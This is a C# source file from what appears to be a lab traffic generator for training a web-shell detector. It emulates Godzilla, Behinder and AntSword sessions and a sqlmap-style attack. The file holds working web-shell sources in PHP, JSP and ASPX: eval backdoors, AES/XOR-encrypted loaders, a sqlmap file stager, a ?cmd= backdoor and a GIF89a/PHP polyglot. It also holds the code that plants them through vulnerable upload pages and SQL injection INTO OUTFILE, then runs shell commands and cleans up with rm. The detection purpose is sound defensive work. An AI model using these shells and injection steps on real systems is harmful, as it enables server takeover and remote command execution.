using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;
using static TrafficSensor.Lab.Operators;

namespace TrafficSensor.Lab;

/// <summary>
/// Operators of the variants in <see cref="Variants"/>: each sends the tool's real request format
/// and headers (no "; charset=" the tools do not send), keeps the tool's session pattern (payload
/// first, then small calls; heartbeats in long sessions) and checks nothing of the answer beyond
/// what the tool itself would.
/// </summary>
public static class ToolOperators
{
    private static readonly string[] Commands = ["whoami", "id", "pwd", "uname -a", "ls -la", "cat lab-notes.txt", "hostname", "ps aux", "netstat -an", "ip addr"];
    private static readonly string[] ShellNames = ["cache", "thumb", "img", "config", "lang", "upgrade", "conn", "db", "info", "sys", "x", "1", "test", "service"];
    /// <summary>Password parameter names seen in the wild, so the detector cannot learn one name.</summary>
    private static readonly string[] PasswordNames = ["pass", "key", "pwd", "ant", "a", "x", "cmd", "mr6", "chopper", "p", "k", "z", "hello", "sky"];

    private static string ShellName(Random random) => ShellNames[random.Next(ShellNames.Length)] + random.Next(100, 9999);
    private static string PasswordName(Random random) => random.Next(3) == 0 ? Hex(random, 3) : PasswordNames[random.Next(PasswordNames.Length)];

    /// <summary>The command loop: the tool's own short session or the run's length, tiny heartbeats in between.</summary>
    private static async Task Loop(LabContext ctx, Random random, int ownLength, Func<string, Task> command, Func<Task>? heartbeat, double think = 2)
    {
        var n = ctx.SessionRequests > 0 ? ctx.SessionRequests : ownLength;
        for (var i = 0; i < n; i++)
        {
            if (heartbeat is not null && i > 0 && random.Next(ctx.SessionRequests > 0 ? 3 : 6) == 0) await heartbeat();
            else await command(Commands[random.Next(Commands.Length)]);
            await ctx.Think(random, think);
        }
    }

    // ------------------------------------------------------------------ uploads

    /// <summary>Drops a shell through the application's vulnerable upload page: apache-php's plugin installer, weblogic's and iis's and mono-aspx's upload pages.</summary>
    private static async Task<string> Drop(LabContext ctx, LabClient client, Random random, string tag, string app, string source, string extension)
    {
        var server = ctx.Server(app);
        var (directory, uploader) = app switch
        {
            "apache-php" => (new[] { "uploads", "images/cache", "admin/tmp" }[random.Next(3)], "/admin/plugin-install.php"),
            "weblogic" => (new[] { "/erp/images", "/erp/static", "/erp/upload" }[random.Next(3)], "/erp/upload.jsp"),
            // (Not App_Data: ASP.NET serves nothing from it.)
            "mono-aspx" => (new[] { "aspnet_client", "Content/upload", "uploads" }[random.Next(3)], "/admin/upload.aspx"),
            _ => (new[] { "aspnet_client", "Content/upload", "App_Data/tmp" }[random.Next(3)], "/admin/upload.aspx"),
        };
        var name = ShellName(random) + "." + extension;
        var form = FormParts.Create($"----WebKitFormBoundary{RandomPrintable(random, 16)}");
        FormParts.Add(form, new StringContent(directory), "dir");
        var file = new ByteArrayContent(Encoding.UTF8.GetBytes(source));
        file.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        FormParts.Add(form, file, "file", name);
        await client.SendAsync(server, HttpMethod.Post, uploader, tag, "upload", form, [("Accept", "text/html,*/*")]);
        await ctx.Think(random, 3);
        return app == "weblogic" ? $"{directory}/{name}" : $"/{directory}/{name}";
    }

    // ------------------------------------------------------------------ Godzilla

    private static readonly byte[] GodzillaKey = Encoding.ASCII.GetBytes("3c6e0b8a9c15224a"); // md5("key")[0:16]
    private static readonly (string, string)[] GodzillaHeaders =
        [("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8"), ("Accept-Language", "zh-CN,zh;q=0.8,zh-TW;q=0.7,zh-HK;q=0.5,en-US;q=0.3,en;q=0.2")];

    private static byte[] GodzillaPayload(Random random, string magic, int size)
    {
        var b = new StringBuilder(magic);
        while (b.Length < size) b.Append($"fn{random.Next():x}getBasicsInfo execCommand getFile {Hex(random, 24)} ");
        return Encoding.Latin1.GetBytes(b.ToString());
    }

    /// <summary>Godzilla's session: the payload, test, getBasicsInfo, then the operator's calls.</summary>
    private static async Task GodzillaSession(LabContext ctx, LabClient client, Random random, Func<string, byte[], Task> send, byte[] payload)
    {
        await send("first_contact", payload);
        await send("first_contact", Gzip(GodzillaParams(new() { ["methodName"] = "test" })));
        await send("first_contact", Gzip(GodzillaParams(new() { ["methodName"] = "getBasicsInfo" })));
        await ctx.Resume(client);
        await send("file_browse", Gzip(GodzillaParams(new() { ["methodName"] = "getFile", ["dirName"] = "/var/www/" })));
        await Loop(ctx, random, 5 + random.Next(5),
            command => send("command", Gzip(GodzillaParams(new() { ["methodName"] = "execCommand", ["cmdLine"] = $"sh -c \"cd \"/var/www/\";{command}\" 2>&1" }))),
            () => send("heartbeat", Gzip(GodzillaParams(new() { ["methodName"] = "test" }))));
    }

    public static async Task GodzillaPhpRaw(LabContext ctx, LabClient client, Random random)
    {
        const string tag = "godzilla/PHP_XOR_RAW";
        var path = await Drop(ctx, client, random, tag, "apache-php",
            "<?php @session_start(); @set_time_limit(0); @error_reporting(0); function encode($D,$K){ for($i=0;$i<strlen($D);$i++) { $c = $K[$i+1&15]; $D[$i] = $D[$i]^$c; } return $D; } $payloadName='payload'; $key='3c6e0b8a9c15224a'; $data=file_get_contents(\"php://input\"); if ($data!==false){ $data=encode($data,$key); if (isset($_SESSION[$payloadName])){ $payload=encode($_SESSION[$payloadName],$key); eval($payload); echo encode(@run($data),$key); }else{ if (strpos($data,\"getBasicsInfo\")!==false){ $_SESSION[$payloadName]=encode($data,$key); } } }", "php");
        var server = ctx.Apache;
        await GodzillaSession(ctx, client, random, async (phase, data) =>
        {
            await client.SendAsync(server, HttpMethod.Post, path, tag, phase, Raw(Xor(data, GodzillaKey, offsetByOne: true), "application/x-www-form-urlencoded"), GodzillaHeaders);
            await ctx.Think(random, 1);
        }, GodzillaPayload(random, "$parameters=array();function run($pms){", 14_000));
    }

    /// <param name="app">The server: weblogic for Java, iis (the emulator) or mono-aspx (the lab's real shell and payload on Mono) for C#.</param>
    public static async Task GodzillaAes(LabContext ctx, LabClient client, Random random, bool java, bool base64, string? app = null)
    {
        var tag = $"godzilla/{(java ? "JAVA" : "CSHARP")}_AES_{(base64 ? "BASE64" : "RAW")}";
        var pass = PasswordName(random);
        app ??= java ? "weblogic" : "iis";
        var mono = app == "mono-aspx" ? Kit(ctx) : null;
        var source = mono is not null ? mono.Shell(base64 ? "godzilla-base64" : "godzilla-raw", pass)
            : java
            ? $"<%! String xc=\"3c6e0b8a9c15224a\"; String pass=\"{pass}\"; /* godzilla {(base64 ? "base64Decode(request.getParameter(pass))" : "request.getInputStream() raw")} */ %>"
            : $"<%@ Page Language=\"C#\"%><%try {{ string key = \"3c6e0b8a9c15224a\"; string pass = \"{pass}\"; /* godzilla {(base64 ? "Request.Form[pass]" : "Request.BinaryRead raw")} */ }}catch(System.Exception){{}}%>";
        var path = await Drop(ctx, client, random, tag, app, source, java ? "jsp" : "aspx");
        var server = ctx.Server(app);
        var payload = mono is not null ? mono.Payload("godzilla") : java ? GodzillaPayload(random, "\u00ca\u00fe\u00ba\u00be\0\0\04payload", 20_000) : GodzillaPayload(random, "MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ffThis program cannot be run in DOS mode.", 16_000);
        await GodzillaSession(ctx, client, random, async (phase, data) =>
        {
            var encrypted = java ? AesEcb(data, GodzillaKey, encrypt: true) : AesCbc(data, GodzillaKey, encrypt: true);
            var content = base64
                ? Raw(Encoding.ASCII.GetBytes(pass + "=" + Uri.EscapeDataString(Convert.ToBase64String(encrypted))), "application/x-www-form-urlencoded")
                : Raw(encrypted, "application/x-www-form-urlencoded");
            await client.SendAsync(server, HttpMethod.Post, path, tag, phase, content, GodzillaHeaders);
            await ctx.Think(random, 1);
        }, payload);
    }

    public static byte[] AesEcb(byte[] data, byte[] key, bool encrypt)
    {
        using var aes = Aes.Create();
        aes.Key = key;
        return encrypt ? aes.EncryptEcb(data, PaddingMode.PKCS7) : aes.DecryptEcb(data, PaddingMode.PKCS7);
    }

    /// <summary>AES-CBC with the key as IV: what RijndaelManaged().CreateEncryptor(k, k) does in the .NET shells.</summary>
    public static byte[] AesCbc(byte[] data, byte[] key, bool encrypt) => AesCbc(data, key, key, encrypt);

    public static byte[] AesCbc(byte[] data, byte[] key, byte[] iv, bool encrypt)
    {
        using var aes = Aes.Create();
        aes.Key = key;
        return encrypt ? aes.EncryptCbc(data, iv, PaddingMode.PKCS7) : aes.DecryptCbc(data, iv, PaddingMode.PKCS7);
    }

    // ------------------------------------------------------------------ Behinder v3 (PHP and ASPX)

    private static readonly byte[] BehinderKey = Encoding.ASCII.GetBytes("e45e329feb5d925b"); // md5("rebeyond")[0:16]
    private static readonly string[] BehinderAgents =
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.105 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:79.0) Gecko/20100101 Firefox/79.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.2 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.18363",
    ];
    private static readonly string[] BehinderAccepts =
    [
        "application/json, text/javascript, */*; q=0.01", "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
        "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2", "*/*",
    ];

    private static (string, string)[] BehinderHeaders(Random random, LabServer server, string path, string agent) =>
    [
        ("User-Agent", agent), ("Accept", BehinderAccepts[random.Next(BehinderAccepts.Length)]), ("Accept-Language", "zh-CN,zh;q=0.8,en-US;q=0.5,en;q=0.3"),
        ("Referer", $"{server.Origin}{path[..(path.LastIndexOf('/') + 1)]}"), ("Cache-Control", "no-cache"), ("Pragma", "no-cache"),
    ];

    public static async Task BehinderPhp(LabContext ctx, LabClient client, Random random)
    {
        const string tag = "behinder/php";
        var path = await Drop(ctx, client, random, tag, "apache-php",
            "<?php @error_reporting(0); session_start(); $key=\"e45e329feb5d925b\"; $_SESSION['k']=$key; session_write_close(); $post=file_get_contents(\"php://input\"); if(!extension_loaded('openssl')){ $t=\"base64_\".\"decode\"; $post=$t($post.\"\"); for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i+1&15]; } } else { $post=openssl_decrypt($post, \"AES128\", $key); } $arr=explode('|',$post); $func=$arr[0]; $params=$arr[1]; class C{public function __invoke($p) {eval($p.\"\");}} @call_user_func(new C(),$params); ?>", "php");
        var server = ctx.Apache;
        var agent = BehinderAgents[random.Next(BehinderAgents.Length)];
        async Task Send(string phase, string function, Dictionary<string, string> args)
        {
            // The payload: PHP source of the tool's function with the arguments base64'd into it.
            var code = new StringBuilder($"@error_reporting(0);\r\nfunction main(");
            code.Append(string.Join(",", args.Keys.Select(k => "$" + k))).Append("){ /* ").Append(function).Append(" */ ");
            code.Append(new string(' ', 0)).Append(RandomPrintable(random, 400 + random.Next(1600))).Append(" }\r\n");
            foreach (var (k, v) in args) code.Append($"${k}=\"{Convert.ToBase64String(Encoding.UTF8.GetBytes(v))}\";${k}=base64_decode(${k});");
            code.Append($"main({string.Join(",", args.Keys.Select(k => "$" + k))});");
            // openssl_decrypt($post, "AES128", $key): AES-128-CBC with an empty (zero) IV, base64 text.
            var body = Convert.ToBase64String(AesCbc(Encoding.UTF8.GetBytes("assert|eval(base64_decode('" + B64(code.ToString()) + "'));"), BehinderKey, new byte[16], encrypt: true));
            await client.SendAsync(server, HttpMethod.Post, path, tag, phase, Raw(Encoding.ASCII.GetBytes(body), "text/html"), BehinderHeaders(random, server, path, agent));
            await ctx.Think(random, 2);
        }
        await Send("first_contact", "echo", new() { ["content"] = RandomPrintable(random, 20 + random.Next(30)) });
        await Send("first_contact", "getBasicsInfo", new() { ["whatever"] = RandomPrintable(random, 10) });
        await ctx.Resume(client);
        await Send("file_browse", "listFile", new() { ["mode"] = "list", ["path"] = "/var/www/html/" });
        await Loop(ctx, random, 5 + random.Next(5), command => Send("command", "runCmd", new() { ["cmd"] = command, ["path"] = "/var/www/html/" }),
            () => Send("heartbeat", "echo", new() { ["content"] = RandomPrintable(random, 8) }));
    }

    /// <param name="app">iis (the emulator reads a look-alike assembly) or mono-aspx (the page loads the lab's mcs-built assembly of the call).</param>
    public static async Task BehinderAspx(LabContext ctx, LabClient client, Random random, string app = "iis")
    {
        const string tag = "behinder/aspx";
        var mono = app == "mono-aspx" ? Kit(ctx) : null;
        var path = await Drop(ctx, client, random, tag, app, mono?.Shell("behinder") ??
            "<%@ Page Language=\"C#\" %><%@Import Namespace=\"System.Reflection\"%><%Session.Add(\"k\",\"e45e329feb5d925b\"); byte[] k = Encoding.Default.GetBytes(Session[0] + \"\"),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance(\"U\").Equals(this);%>", "aspx");
        var server = ctx.Server(app);
        var agent = BehinderAgents[random.Next(BehinderAgents.Length)];
        async Task Send(string phase, string className, Dictionary<string, string> fields)
        {
            // One payload assembly per function (Echo, BasicInfo, FileOperation, Cmd), the call's fields patched in.
            var assembly = mono?.Payload("behinder-" + className.ToUpperInvariant(), fields) ?? FakeAssembly(random, className, fields);
            var content = new ByteArrayContent(AesCbc(assembly, BehinderKey, encrypt: true));
            content.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
            await client.SendAsync(server, HttpMethod.Post, path, tag, phase, content, BehinderHeaders(random, server, path, agent));
            await ctx.Think(random, 2);
        }
        await Send("first_contact", "Echo", new() { ["content"] = RandomPrintable(random, 30) });
        await Send("first_contact", "BasicInfo", new() { ["whatever"] = RandomPrintable(random, 10) });
        await ctx.Resume(client);
        await Send("file_browse", "FileOperation", new() { ["mode"] = "list", ["path"] = "C:\\inetpub\\wwwroot\\" });
        await Loop(ctx, random, 5 + random.Next(5), command => Send("command", "Cmd", new() { ["cmd"] = command, ["path"] = "C:\\inetpub\\wwwroot\\" }),
            () => Send("heartbeat", "Echo", new() { ["content"] = RandomPrintable(random, 8) }));
    }

    /// <summary>
    /// A blob shaped like the .NET assembly Behinder sends: the MZ/PE header, then the class name and
    /// its fields as length-prefixed strings (what the emulator reads), then filler.
    /// </summary>
    public static byte[] FakeAssembly(Random random, string className, Dictionary<string, string> fields)
    {
        var ms = new MemoryStream();
        ms.Write(Encoding.Latin1.GetBytes("MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ff\0\0This program cannot be run in DOS mode.\r\r\n$\0PE\0\0"));
        void Str(string s) { var b = Encoding.UTF8.GetBytes(s); ms.WriteByte((byte)(b.Length >> 8)); ms.WriteByte((byte)b.Length); ms.Write(b); }
        Str(className);
        foreach (var (k, v) in fields) { Str(k); Str(v); }
        ms.WriteByte(0); ms.WriteByte(0);
        var filler = new byte[1500 + random.Next(2500)];
        random.NextBytes(filler);
        ms.Write(filler);
        return ms.ToArray();
    }

    // ------------------------------------------------------------------ AntSword (multipart, ASPX)

    /// <summary>Old browser strings of the kind AntSword's random user-agent option picks from, one per request.</summary>
    private static readonly string[] AntSwordAgents =
    [
        "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; WOW64; Trident/6.0)",
        "Opera/9.80 (X11; Linux i686; Ubuntu/14.10) Presto/2.12.388 Version/12.16",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_3) AppleWebKit/537.75.14 (KHTML, like Gecko) Version/7.0.3 Safari/7046A194A",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:38.0) Gecko/20100101 Firefox/38.0",
        "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko",
        "antSword/v2.1",
    ];

    private static string AntSwordCode(string start, string end, string code) =>
        "@ini_set(\"display_errors\", \"0\");@set_time_limit(0);function asenc($out){return $out;};function asoutput(){$output=ob_get_contents();ob_end_clean();echo \"" + start + "\";echo @asenc($output);echo \"" + end + "\";}ob_start();try{" + code + "}catch(Exception $e){echo \"ERROR://\".$e->getMessage();};asoutput();die();";

    public static async Task AntSwordMultipart(LabContext ctx, LabClient client, Random random)
    {
        const string tag = "antsword/multipart";
        var pass = PasswordName(random);
        var path = await Drop(ctx, client, random, tag, "apache-php", $"<?php @eval($_POST['{pass}']);?>", "php");
        var server = ctx.Apache;
        async Task Send(string phase, string code, Dictionary<string, string> args)
        {
            var start = Hex(random, 4 + random.Next(4));
            var end = Hex(random, 4 + random.Next(4));
            var dataParam = "_0x" + Hex(random, 4);
            // The form-data package's boundary: 26 dashes and 24 digits.
            var boundary = "--------------------------" + string.Concat(Enumerable.Range(0, 24).Select(_ => (char)('0' + random.Next(10))));
            var body = new StringBuilder();
            void Part(string name, string value) => body.Append($"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
            Part(pass, $"@eval(@base64_decode($_POST['{dataParam}']));");
            Part(dataParam, B64(AntSwordCode(start, end, code)));
            foreach (var (name, value) in args) Part(name, Hex(random, 1) + B64(value));
            body.Append($"--{boundary}--\r\n");
            await client.SendAsync(server, HttpMethod.Post, path, tag, phase, Raw(Encoding.UTF8.GetBytes(body.ToString()), $"multipart/form-data; boundary={boundary}"),
                [("User-Agent", AntSwordAgents[random.Next(AntSwordAgents.Length)]), ("Accept-Encoding", "gzip, deflate")]);
            await ctx.Think(random, 2);
        }
        await Send("first_contact", "$D=dirname($_SERVER[\"SCRIPT_FILENAME\"]);$R=\"{$D}\t\";$R.=php_uname();echo $R;", new());
        await ctx.Resume(client);
        await Send("file_browse", "$D=base64_decode(substr($_POST[\"k8\"],2));$F=@opendir($D);while($N=@readdir($F)){echo $N;}", new() { ["k8"] = "/var/www/html/" });
        await Loop(ctx, random, 5 + random.Next(5),
            command => Send("command", "$p=base64_decode(substr($_POST[\"x1\"],2));$s=base64_decode(substr($_POST[\"x2\"],2));$r=\"{$p} -c \\\"{$s}\\\"\";$ret=@system($r.\" 2>&1\");",
                new() { ["x1"] = "/bin/sh", ["x2"] = $"cd \"/var/www/html\";{command};echo {Hex(random, 3)};pwd;echo {Hex(random, 3)}" }),
            () => Send("heartbeat", "echo 1;", new()));
    }

    /// <summary>An AntSword ASPX request: the shell's fields, then the call's arguments (two random characters, then base64), a random old browser's user agent.</summary>
    private static async Task AntSwordPost(LabContext ctx, LabClient client, Random random, LabServer server, string path, string tag, string phase,
        List<KeyValuePair<string, string>> fields, Dictionary<string, string> args)
    {
        foreach (var (name, value) in args) fields.Add(new(name, Hex(random, 1) + B64(value)));
        await client.SendAsync(server, HttpMethod.Post, path, tag, phase, new FormUrlEncodedContent(fields),
            [("User-Agent", AntSwordAgents[random.Next(AntSwordAgents.Length)]), ("Accept-Encoding", "gzip, deflate")]);
        await ctx.Think(random, 2);
    }

    public static async Task AntSwordAspx(LabContext ctx, LabClient client, Random random)
    {
        const string tag = "antsword/aspx";
        var pass = PasswordName(random);
        var path = await Drop(ctx, client, random, tag, "iis", $"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{pass}\"],\"unsafe\");%>", "aspx");
        var server = ctx.Iis;
        async Task Send(string phase, string code, Dictionary<string, string> args)
        {
            var start = Hex(random, 4 + random.Next(4));
            var end = Hex(random, 4 + random.Next(4));
            var dataParam = "0x" + Hex(random, 4);
            var jscript = $"var err:Exception;try{{Response.Write(\"{start}\");{code};}}catch(err){{Response.Write(\"ERROR:// \"+err.message);}}Response.Write(\"{end}\");Response.End();";
            var fields = new List<KeyValuePair<string, string>>
            {
                new(pass, $"eval(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Item[\"{dataParam}\"])),\"unsafe\");"),
                new(dataParam, B64(jscript)),
            };
            await AntSwordPost(ctx, client, random, server, path, tag, phase, fields, args);
        }
        await Send("first_contact", "var c=System.IO.DriveInfo.GetDrives(),result=\"\";for(var i=0;i<c.length;i++)result+=c[i].Name[0]+\":\";Response.Write(Server.MapPath(\".\")+\"\\t\"+result+\"\\t\"+Environment.OSVersion+\"\\t\"+Environment.UserName)", new());
        await ctx.Resume(client);
        await Loop(ctx, random, 5 + random.Next(5),
            command => Send("command", "var c=new System.Diagnostics.ProcessStartInfo(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Item[\"x1\"].substr(2))));var e=new System.Diagnostics.Process();var out:System.IO.StreamReader;c.UseShellExecute=false;c.RedirectStandardOutput=true;c.Arguments=System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Item[\"x2\"].substr(2)));e.StartInfo=c;e.Start();out=e.StandardOutput;Response.Write(out.ReadToEnd())",
                new() { ["x1"] = "cmd", ["x2"] = $"/c cd /d \"C:\\inetpub\\wwwroot\\\"&{command}&echo [S]&cd&echo [E]" }),
            () => Send("heartbeat", "Response.Write(\"1\")", new()));
    }

    /// <summary>
    /// AntSword's C# shell type ("aspxcsharp") against the mono-aspx server, where the JScript eval
    /// shell of <see cref="AntSwordAspx"/> cannot run (Mono has no JScript.NET): the password field
    /// carries the base64 of a payload assembly per call, with the call's output markers patched in;
    /// the command's arguments are AntSword's usual fields (two random characters, then base64).
    /// </summary>
    public static async Task AntSwordCsharp(LabContext ctx, LabClient client, Random random)
    {
        const string tag = "antsword/aspxcsharp";
        var mono = Kit(ctx);
        var pass = PasswordName(random);
        var path = await Drop(ctx, client, random, tag, "mono-aspx", mono.Shell("antsword", pass), "aspx");
        var server = ctx.MonoAspx;
        async Task Send(string phase, string payload, Dictionary<string, string> args)
        {
            var markers = new Dictionary<string, string> { ["start"] = Hex(random, 4 + random.Next(4)), ["end"] = Hex(random, 4 + random.Next(4)) };
            var fields = new List<KeyValuePair<string, string>> { new(pass, Convert.ToBase64String(mono.Payload("antsword-" + payload, markers))) };
            await AntSwordPost(ctx, client, random, server, path, tag, phase, fields, args);
        }
        await Send("first_contact", "INFO", new());
        await ctx.Resume(client);
        await Loop(ctx, random, 5 + random.Next(5),
            command => Send("command", "CMD", new() { ["x1"] = "/bin/sh", ["x2"] = $"cd \"/var/www/html\";{command};echo {Hex(random, 3)};pwd;echo {Hex(random, 3)}" }),
            () => Send("heartbeat", "ECHO", new()));
    }

    private static MonoKit Kit(LabContext ctx) => ctx.Mono ?? throw new InvalidOperationException("the mono-aspx variants need the kit run.sh builds (--mono-kit)");

    // ------------------------------------------------------------------ sqlmap's file stager and ?cmd= backdoor

    public static async Task SqlmapStager(LabContext ctx, LabClient client, Random random)
    {
        const string tag = "cmd/stager";
        var server = ctx.Apache;
        (string, string)[] headers = [("Accept", "*/*"), ("Accept-Encoding", "gzip,deflate"), ("Cache-Control", "no-cache")];
        var id = random.Next(1, 40);
        // Detection and exploitation of the injectable parameter (a few of sqlmap's many requests).
        foreach (var probe in new[] { $"{id}", $"{id} AND {random.Next(1000, 9999)}={random.Next(1000, 9999)}", $"{id} AND 1=1", $"{id}) AND 5821=5821 AND (1=1",
                     $"{id} ORDER BY 1-- -", $"{id} UNION ALL SELECT NULL,NULL,CONCAT(0x716b7a7a71,0x{Hex(random, 10)},0x7178786b71)-- -" })
            await client.SendAsync(server, HttpMethod.Get, $"/item.php?id={Uri.EscapeDataString(probe)}", tag, "sqli", headers: headers);
        await ctx.Resume(client);
        // The file stager: written through INTO OUTFILE under each guessed web root, then fetched; 404 until one lands.
        var stager = $"tmpu{RandomLower(random, 4)}.php";
        var stagerHex = "0x" + Convert.ToHexStringLower(Encoding.ASCII.GetBytes("<?php\nif (isset($_REQUEST[\"upload\"])){$dir=$_REQUEST[\"uploadDir\"];if (phpversion()<'4.1.0'){$file=$HTTP_POST_FILES[\"file\"][\"name\"];@move_uploaded_file($HTTP_POST_FILES[\"file\"][\"tmp_name\"],$dir.\"/\".$file) or die();}else{$file=$_FILES[\"file\"][\"name\"];@move_uploaded_file($_FILES[\"file\"][\"tmp_name\"],$dir.\"/\".$file) or die();}@chmod($dir.\"/\".$file,0755);echo \"File uploaded\";}else {echo \"<form action=\".$_SERVER[\"PHP_SELF\"].\" method=POST enctype=multipart/form-data><input type=hidden name=MAX_FILE_SIZE value=1000000000><b>sqlmap file uploader</b><br><input name=file type=file><br>to directory: <input type=text name=uploadDir value=/var/www/html/> <input type=submit name=upload value=upload></form>\";}?>\n"));
        var roots = new List<(string Root, string Url)> { ("/var/www", "/"), ("/usr/local/apache2/htdocs", "/"), ("/srv/www/htdocs", "/"), ("/var/www/html/uploads", "/uploads/"), ("/var/www/html/admin", "/admin/"), ("/var/www/html", "/") };
        var extra = random.Next(3);
        roots.InsertRange(0, new[] { ("/usr/local/www/data", "/"), ("/var/www/nginx-default", "/"), ("/srv/www", "/") }.Take(extra));
        string? found = null;
        foreach (var (root, url) in roots)
        {
            await client.SendAsync(server, HttpMethod.Get, $"/item.php?id={Uri.EscapeDataString($"-{id} LIMIT 0,1 INTO OUTFILE '{root}/{stager}' LINES TERMINATED BY {stagerHex}-- -")}", tag, "stager_write", headers: headers);
            var probe = await client.SendAsync(server, HttpMethod.Get, url + stager, tag, "stager_probe", headers: headers);
            if (probe.Status == 200) { found = url; break; }
        }
        if (found is null) return;
        // Upload of the backdoor through the stager.
        var backdoor = $"tmpb{RandomLower(random, 4)}.php";
        var form = FormParts.Create($"{Hex(random, 16)}");
        FormParts.Add(form, new StringContent("1000000000"), "MAX_FILE_SIZE");
        var file = new ByteArrayContent(Encoding.ASCII.GetBytes("<?php $c=$_REQUEST[\"cmd\"];@set_time_limit(0);@ignore_user_abort(1);@ini_set(\"max_execution_time\",0);$z=@ini_get(\"disable_functions\");if(!empty($z)){$z=preg_replace(\"/[, ]+/\",',',$z);$z=explode(',',$z);$z=array_map(\"trim\",$z);}else{$z=array();}$c=$c.\" 2>&1\\n\";function f($n){global $z;return is_callable($n)and!in_array($n,$z);}if(f(\"system\")){ob_start();system($c);$w=ob_get_clean();}echo $w;?>"));
        file.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        FormParts.Add(form, file, "file", backdoor);
        FormParts.Add(form, new StringContent("/var/www/html" + found.TrimEnd('/')), "uploadDir");
        FormParts.Add(form, new StringContent("upload"), "upload");
        await client.SendAsync(server, HttpMethod.Post, found + stager, tag, "upload", form, headers);
        var shell = found + backdoor;
        await client.SendAsync(server, HttpMethod.Get, $"{shell}?cmd={Uri.EscapeDataString($"echo {RandomLower(random, 6)}")}", tag, "first_contact", headers: headers);
        await Loop(ctx, random, 3 + random.Next(4),
            command => client.SendAsync(server, HttpMethod.Get, $"{shell}?cmd={Uri.EscapeDataString(command)}", tag, "command", headers: headers),
            () => client.SendAsync(server, HttpMethod.Get, $"{shell}?cmd={Uri.EscapeDataString($"echo {RandomLower(random, 4)}")}", tag, "heartbeat", headers: headers), think: 3);
        await client.SendAsync(server, HttpMethod.Get, $"{shell}?cmd={Uri.EscapeDataString($"chmod 0755 {backdoor}")}", tag, "command", headers: headers);
        await client.SendAsync(server, HttpMethod.Get, $"{shell}?cmd={Uri.EscapeDataString($"rm -f {stager}")}", tag, "cleanup", headers: headers);
    }

    private static string RandomLower(Random random, int n) => new(Enumerable.Range(0, n).Select(_ => (char)('a' + random.Next(26))).ToArray());

    // ------------------------------------------------------------------ image upload with code inside (GIF89a + PHP, double extension)

    public static async Task ImageUpload(LabContext ctx, LabClient client, Random random)
    {
        const string tag = "cmd/image-upload";
        var server = ctx.Apache;
        var agent = UserAgents.Browsers[random.Next(UserAgents.Browsers.Length)];
        (string, string)[] browser = [("User-Agent", agent), ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Accept-Language", "en-US,en;q=0.5")];
        await client.SendAsync(server, HttpMethod.Get, "/upload.php", tag, "recon", headers: browser);
        var name = new[] { "avatar", "photo", "image", "logo", "pic" }[random.Next(5)] + random.Next(10, 99) + new[] { ".php.gif", ".php.jpg", ".phtml.gif", ".php.png" }[random.Next(4)];
        var form = FormParts.Create($"----WebKitFormBoundary{RandomPrintable(random, 16)}");
        var polyglot = new MemoryStream();
        polyglot.Write("GIF89a"u8);
        polyglot.Write([0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x21, 0xf9, 0x04, 0x01, 0x00, 0x00, 0x00, 0x00, 0x2c, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00]);
        polyglot.Write(Encoding.ASCII.GetBytes(random.Next(2) == 0
            ? "<?php if(isset($_REQUEST['cmd'])){ echo \"<pre>\"; $cmd = ($_REQUEST['cmd']); system($cmd); echo \"</pre>\"; die; } ?>"
            : "<?php echo \"<pre>\"; system($_GET['cmd']); echo \"</pre>\"; ?>"));
        polyglot.Write([0x3b]);
        var file = new ByteArrayContent(polyglot.ToArray());
        file.Headers.ContentType = new MediaTypeHeaderValue(name.EndsWith(".gif") ? "image/gif" : name.EndsWith(".png") ? "image/png" : "image/jpeg");
        FormParts.Add(form, new StringContent("Holiday"), "title");
        FormParts.Add(form, file, "image", name);
        await client.SendAsync(server, HttpMethod.Post, "/upload.php", tag, "upload", form, browser.Append(("Referer", $"{server.Origin}/upload.php")));
        await ctx.Think(random, 3);
        var shell = $"/uploads/{name}";
        await client.SendAsync(server, HttpMethod.Get, shell, tag, "first_contact", headers: browser);
